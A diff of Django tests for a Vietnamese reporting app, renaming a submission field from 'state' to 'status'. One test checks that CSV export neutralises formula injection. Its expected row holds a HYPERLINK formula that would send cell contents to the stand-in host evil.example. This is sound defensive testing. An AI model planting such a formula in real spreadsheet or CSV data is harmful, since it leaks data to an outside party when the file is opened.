@@ -136,9 +136,9 @@ def test_compliance_counts_the_deadlines_of_the_period_per_unit(login, clock):
         deadline=dt.date(2023, 11, 20),
     )
     Submission.objects.create(
-        request=request, unit=vp, state="accepted", submitted_at=timezone.make_aware(dt.datetime(2023, 11, 18, 9))
+        request=request, unit=vp, status="accepted", submitted_at=timezone.make_aware(dt.datetime(2023, 11, 18, 9))
     )
-    Submission.objects.create(request=request, unit=dh, state="not_started")
+    Submission.objects.create(request=request, unit=dh, status="not_started")
     chart = charts(login("chuyenvien").get("/thong-ke/", {"period": "2023"}))["dung-han"]
     rates = dict(zip(chart.labels, series(chart, "Tỷ lệ đúng hạn (%)")))
     assert rates == {str(dh): 0, str(vp): 100}
@@ -165,7 +165,7 @@ def test_a_units_name_typed_like_a_formula_is_text_in_the_csv(login, clock):
         period_code="2023",
         deadline=dt.date(2023, 11, 20),
     )
-    Submission.objects.create(request=request, unit=vp, state="not_started")
+    Submission.objects.create(request=request, unit=vp, status="not_started")
     text = login("chuyenvien").get("/thong-ke/dung-han.csv", {"period": "2023"}).content.decode()
     rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
     assert rows[1] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "0", "0", "1"]
